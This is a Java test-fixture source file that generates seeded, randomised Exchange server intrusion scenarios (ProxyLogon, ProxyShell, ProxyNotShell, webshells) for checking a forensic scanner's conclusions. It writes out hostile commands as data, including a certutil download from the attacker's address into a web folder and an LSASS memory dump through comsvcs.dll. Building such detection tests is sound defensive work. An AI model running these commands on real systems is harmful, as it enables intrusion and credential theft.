package org.exhunt.testkit.image;

import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import org.exhunt.core.Rows;

/**
 * Scenarios no test has seen: drawn from a seed, so that a failure can be replayed, but different for every seed.
 * A build from anywhere in the build table (2013 to SE), logs of a random span and mix starting some time after
 * its release, random traffic volume, sometimes EOMT's rules; then for each chain already known at the time,
 * maybe an intrusion (when the build is open to it) or probes that fail, with random addresses, shell names,
 * folders, contents and follow-up, and sometimes a shell nobody's exploit explains. What a correct scan concludes
 * comes from {@link Oracle}; the file links ({@link Expect#chain()}) follow ARCHITECTURE.md's three rules here.
 */
public final class RandomScenarios {

    private static final Instant NEWEST_LOGS = Instant.parse("2026-08-25T00:00:00Z");
    private static final String[] SHELL_FOLDERS = {"inetpub/wwwroot/aspnet_client/",
        "inetpub/wwwroot/aspnet_client/system_web/", Layout.INSTALL + "/FrontEnd/HttpProxy/owa/auth/"};
    private static final String[] USER_AGENTS = {Attacks.ANTSWORD, Attacks.PYTHON, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
            + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.81 Safari/537.36", "curl/7.79.1"};
    private static final String[] USERS = {"frank", "grace", "heidi", "ivan", "judy"};
    private static final long HOUR = 3_600_000L;

    private RandomScenarios() {}

    public static Scenario draw(long seed, BuildTable table) {
        SplittableRandom r = new SplittableRandom(seed);
        List<BuildTable.Build> builds = table.all().stream().filter(b -> !b.family().equals("2010")).toList();
        BuildTable.Build build = builds.get(r.nextInt(builds.size()));
        Instant released = build.released().atStartOfDay(ZoneOffset.UTC).toInstant();
        long room = Math.max(1, Math.min(1200, Duration.between(released, NEWEST_LOGS).toDays()));
        Instant from = released.plus(Duration.ofDays(r.nextLong(room))).plus(Duration.ofMinutes(r.nextInt(24 * 60)));
        Instant to = from.plus(Duration.ofHours(30 + r.nextInt(42)));
        if (endsNearFirstExploitation(to)) to = to.plus(Duration.ofHours(6));

        List<LogKind> kinds = new ArrayList<>(List.of(LogKind.IIS));
        maybe(r, 75, kinds, LogKind.HTTPPROXY);
        maybe(r, 40, kinds, LogKind.ECP_SERVER);
        maybe(r, 30, kinds, LogKind.OAB_GENERATOR);
        maybe(r, 30, kinds, LogKind.APPLICATION);
        maybe(r, 40, kinds, LogKind.MANAGEMENT);
        maybe(r, 40, kinds, LogKind.SECURITY);
        maybe(r, 50, kinds, LogKind.SYSMON);
        Scenario.Builder s = Scenario.named("fresh-" + Long.toHexString(seed)).seed(seed)
                .title("drawn from seed " + seed + ": " + build.product() + " " + build.update() + " (" + build.build() + ")")
                .build(build.build()).logs(from, to, kinds.toArray(LogKind[]::new))
                .requestsPerHour(2 + r.nextInt(30)).bareCsvHeader(r.nextBoolean());
        boolean eomt = !build.patchedFor().contains(Rows.PROXYLOGON) && r.nextInt(4) == 0;
        if (eomt) s.mitigation(Scenario.Mitigation.EOMT);

        Story story = new Story(r, s, build, kinds, from, to);
        if (!eomt && r.nextInt(100) < 45) story.chain(Rows.PROXYLOGON);
        if (r.nextInt(100) < 45) story.chain(Rows.PROXYSHELL);
        if (r.nextInt(100) < 45) story.chain(Rows.PROXYNOTSHELL);
        if (r.nextInt(100) < 15) story.viewState();
        if (r.nextInt(100) < 15) story.orphanShell();
        return s.build();
    }

    /**
     * Whether the logs would end within hours after a chain's first exploitation: the last record may then fall on
     * either side of it (traffic is sparse), and the verdict with it. Such a span is stretched.
     */
    private static boolean endsNearFirstExploitation(Instant to) {
        return RowHistory.CHAIN_ROWS.stream().anyMatch(row -> !to.isBefore(row.firstExploited())
                && to.isBefore(row.firstExploited().plus(Duration.ofHours(4))));
    }

    private static void maybe(SplittableRandom r, int percent, List<LogKind> kinds, LogKind kind) {
        if (r.nextInt(100) < percent) kinds.add(kind);
    }

    /** One scenario's intrusions, written into its builder. */
    private static final class Story {
        private final SplittableRandom r;
        private final Scenario.Builder s;
        private final BuildTable.Build build;
        private final List<LogKind> kinds;
        private final Instant from;
        private final Instant to;

        Story(SplittableRandom r, Scenario.Builder s, BuildTable.Build build, List<LogKind> kinds, Instant from, Instant to) {
            this.r = r;
            this.s = s;
            this.build = build;
            this.kinds = kinds;
            this.from = from;
            this.to = to;
        }

        /** An intrusion when the build is open to the chain (mostly), else probes that fail; nothing before the chain was known. */
        void chain(String chain) {
            Instant known = RowHistory.CHAIN_ROWS.stream().filter(x -> x.name().equals(chain)).findFirst().orElseThrow()
                    .firstExploited().plus(Duration.ofHours(1));
            Instant start = from.isAfter(known) ? from : known;
            Instant last = to.minus(Duration.ofHours(8));
            if (!start.isBefore(last)) return;
            Instant at = start.plusMillis(r.nextLong(Duration.between(start, last).toMillis()));
            boolean open = !build.patchedFor().contains(chain);
            if (open && r.nextInt(3) > 0) {
                switch (chain) {
                    case Rows.PROXYLOGON -> proxyLogon(at);
                    case Rows.PROXYSHELL -> proxyShell(at);
                    default -> proxyNotShell(at);
                }
            } else {
                probes(chain, at, open);
            }
        }

        private void proxyLogon(Instant at) {
            String ip = ip();
            String js = (char) ('a' + r.nextInt(26)) + ".js";
            String folder = SHELL_FOLDERS[r.nextInt(SHELL_FOLDERS.length)];
            String shell = folder + name() + ".aspx";
            String windows = "C:\\" + shell.replace('/', '\\');
            s.step(Attacks.proxyLogonProbe(at, ip, js));
            s.step(Attacks.proxyLogonForgedRequest(at.plusMillis(1300), ip, js, "mapi/emsmdb?", 200));
            s.step(Attacks.proxyLogonForgedRequest(at.plusMillis(2700), ip, js, "ecp/proxyLogon.ecp?", 241));
            s.step(Attacks.setOabExternalUrl(at.plusMillis(6100), ip, js, name()));
            s.step(Attacks.resetOabVirtualDirectory(at.plusMillis(9400), ip, js, windows));
            if (r.nextBoolean()) {
                s.step(Attacks.oabDownloadFailed(at.plusSeconds(300 + r.nextInt(600)),
                        "C:\\inetpub\\wwwroot\\aspnet_client\\" + name() + ".aspx"));
            }
            if (r.nextInt(100) < 85) {
                s.file(new DroppedFile(shell, Artifacts.oabVirtualDirectoryShell(Attacks.HOST, build.build(), name()),
                        Expect.postExploitation(Rows.PROXYLOGON, "a Chopper inside OAB virtual-directory settings")));
            }
            requests(ip, shell, at, Rows.PROXYLOGON);
            if (r.nextInt(100) < 30) lsassDump(at.plus(Duration.ofMinutes(30 + r.nextInt(60))));
        }

        private void proxyShell(Instant at) {
            String ip = ip();
            String email = name().toLowerCase(Locale.ROOT) + "@" + name().toLowerCase(Locale.ROOT) + ".com";
            String shell = SHELL_FOLDERS[r.nextInt(SHELL_FOLDERS.length)] + name() + ".aspx";
            s.step(Attacks.proxyShellRequest(at, ip, "POST", email, "autodiscover/autodiscover.xml", 200));
            s.step(Attacks.proxyShellRequest(at.plusMillis(1900), ip, "POST", email, "mapi/emsmdb/", 200));
            s.step(Attacks.proxyShellPowerShell(at.plusMillis(4400), ip, email, "administrator@contoso.local", 200));
            s.step(Attacks.cmdlet(at.plusSeconds(30), ip, "New-ManagementRoleAssignment",
                    "-Role \"Mailbox Import Export\" -User \"administrator@contoso.local\"",
                    Expect.success(Rows.PROXYSHELL, "the Mailbox Import Export role given through the forged session")));
            s.steps(Attacks.mailboxExport(at.plusSeconds(55), ip, null, shell, at.plusSeconds(90), 4000 + r.nextInt(4000),
                    "a mailbox exported as an .aspx file into a web folder",
                    "the mailbox replication service writes the export to a web folder"));
            if (r.nextBoolean()) {
                s.step(Attacks.cmdlet(at.plusSeconds(110), ip, "Remove-MailboxExportRequest",
                        "-Identity \"administrator@contoso.local\\MailboxExport\" -Confirm \"False\"",
                        Expect.success(Rows.PROXYSHELL, "the export request removed right after")));
            }
            s.file(new DroppedFile(shell, Artifacts.pstShell(r.nextLong(), name()),
                    Expect.postExploitation(Rows.PROXYSHELL, "a PST export (!BDN) carrying a page")));
            requests(ip, shell, at.plusSeconds(120), Rows.PROXYSHELL);
        }

        private void proxyNotShell(Instant at) {
            String ip = ip();
            String user = "CONTOSO\\" + USERS[r.nextInt(USERS.length)];
            boolean inOwa = r.nextBoolean();
            String shell = (inOwa ? SHELL_FOLDERS[2] : SHELL_FOLDERS[r.nextInt(2)]) + name() + ".ashx";
            String windows = "C:\\" + shell.replace('/', '\\');
            if (r.nextBoolean()) s.step(Attacks.proxyNotShellRequest(at, ip, user, name() + "@evil.corp", 200));
            else s.step(Attacks.owaSsrf(at, ip, user, 200));
            Expect started = Expect.success(Rows.PROXYNOTSHELL, "a shell started by Exchange's PowerShell application pool");
            // Security's 4688 does not say which application pool started the shell; alone, it is tied to the exploit
            // by the address the command downloads from, the exploiting client's (ARCHITECTURE.md's fourth linking rule)
            Expect securityAlone = kinds.contains(LogKind.SYSMON) ? started : Expect.postExploitation(Rows.PROXYNOTSHELL,
                    "a shell started by IIS that downloads from the exploiting client's address");
            Step cmd = Attacks.process(at.plusSeconds(8), "C:\\Windows\\System32\\cmd.exe", "Windows Command Processor",
                    "cmd.exe /c certutil.exe -urlcache -split -f http://" + ip + "/" + name() + ".txt \"" + windows + "\"",
                    Attacks.w3wp(), Attacks.w3wpCommandLine("MSExchangePowerShellAppPool"), 5000 + r.nextInt(4000), 3384,
                    securityAlone, started);
            s.step(cmd);
            boolean named = kinds.contains(LogKind.SYSMON) || kinds.contains(LogKind.SECURITY);
            s.step(Attacks.fileCreate(at.plusSeconds(10), "C:\\Windows\\System32\\certutil.exe", 9000 + r.nextInt(900),
                    windows, Expect.postExploitation(Rows.PROXYNOTSHELL, "the handler written by the command the exploit ran")));
            int n = requests(ip, shell, at.plusSeconds(60), Rows.PROXYNOTSHELL);
            s.file(new DroppedFile(shell, Artifacts.ashxLoader(name()), Expect.postExploitation(named || n > 0
                    ? Rows.PROXYNOTSHELL : null, "an assembly loader in a web folder" + (named || n > 0 ? ""
                    : ", which no evidence in the logs ties to the exploit"))));
        }

        /** Exploit requests that cannot have worked: refused by a fixed build, or a scanner's probe of an open one. */
        private void probes(String chain, Instant at, boolean open) {
            String ip = ip();
            switch (chain) {
                case Rows.PROXYLOGON -> s.step(open ? Attacks.proxyLogonProbe(at, ip, "x.js") : refusedProxyLogonProbe(at, ip));
                case Rows.PROXYSHELL -> {
                    s.step(Attacks.proxyShellRequest(at, ip, "GET", "test.com", "owa/", open ? 302 : 400));
                    if (!open) s.step(Attacks.proxyShellRequest(at.plusMillis(400), ip, "GET", "test.com", "mapi/nspi/", 400));
                }
                default -> {
                    if (!open) s.step(Attacks.proxyNotShellRequest(at, ip, "CONTOSO\\" + USERS[r.nextInt(USERS.length)],
                            "a@foo.var", 400));
                }
            }
        }

        private Step refusedProxyLogonProbe(Instant at, String ip) {
            var probe = new org.exhunt.testkit.logs.PlantedEvent.WebRequest(at, ip, "POST", "/ecp/y.js", "", "", Attacks.PYTHON,
                    404, "Ecp", "");
            return new Step(at, ip, "ProxyLogon probe refused", List.of(
                    new Trace.Line(LogKind.IIS, probe, Expect.attempt(Rows.PROXYLOGON, "POST to a made-up script under /ecp/")),
                    new Trace.Line(LogKind.HTTPPROXY, probe, Expect.context(Rows.PROXYLOGON, "no forged route: refused"))));
        }

        void viewState() {
            Instant known = Instant.parse("2020-02-26T00:00:00Z");
            Instant start = from.isAfter(known) ? from : known;
            if (!start.isBefore(to.minus(Duration.ofHours(1)))) return;
            s.step(Attacks.viewStateRequest(start.plusMillis(r.nextLong(Duration.between(start, to).toMillis() - HOUR)), ip(),
                    "CONTOSO\\" + USERS[r.nextInt(USERS.length)], r.nextBoolean() ? 500 : 200));
        }

        /** A Chopper in aspnet_client that no exploit in the logs explains, maybe requested from an address that used none. */
        void orphanShell() {
            String shell = SHELL_FOLDERS[r.nextInt(2)] + name() + ".aspx";
            s.file(new DroppedFile(shell, Artifacts.chopper(name()),
                    Expect.postExploitation(null, "a Chopper no exploit in the logs explains")));
            if (r.nextBoolean()) {
                requests(ip(), shell, from.plusMillis(r.nextLong(Duration.between(from, to).toMillis() - 8 * HOUR)), null);
            }
        }

        private void lsassDump(Instant at) {
            s.step(Attacks.process(at, "C:\\Windows\\System32\\rundll32.exe", "Windows host process (Rundll32)",
                    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652 C:\\windows\\temp\\lsass.dmp full",
                    "C:\\Windows\\System32\\cmd.exe", "cmd /c rundll32.exe", 7448, 7312, true,
                    Expect.postExploitation(null, "LSASS memory dumped through comsvcs.dll's MiniDump")));
            // the dump is written by the process the step starts, so after its events, not at the step's start
            s.file(new DroppedFile("Windows/Temp/lsass.dmp", Artifacts.minidump(r.nextLong()),
                    Expect.postExploitation(null, "an LSASS memory dump in %WINDIR%\\temp")).writtenAt(at.plusSeconds(2)));
        }

        /**
         * 0 to 3 requests to a shell from {@code ip}, minutes to hours after {@code after}: linked to {@code chain}
         * since the same address used its exploit less than 24 hours before. Returns how many.
         */
        private int requests(String ip, String drivePath, Instant after, String chain) {
            String url = new DroppedFile(drivePath, new byte[0], Expect.benign("")).urlPath();
            String agent = USER_AGENTS[r.nextInt(USER_AGENTS.length)];
            int n = r.nextInt(4);
            Instant t = after.plusSeconds(60);
            for (int i = 0; i < n; i++) {
                t = t.plusSeconds(30 + r.nextInt(7200)).truncatedTo(java.time.temporal.ChronoUnit.SECONDS);
                s.step(Attacks.shellRequest(t, ip, url, agent, chain));
            }
            return n;
        }

        private String ip() {
            int[] firsts = {23, 31, 45, 64, 81, 91, 103, 139, 146, 157, 167, 185, 193, 212};
            return firsts[r.nextInt(firsts.length)] + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + (1 + r.nextInt(254));
        }

        private String name() {
            String alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
            StringBuilder b = new StringBuilder();
            int n = 5 + r.nextInt(5);
            for (int i = 0; i < n; i++) b.append(alphabet.charAt(r.nextInt(alphabet.length())));
            return b.toString();
        }
    }
}
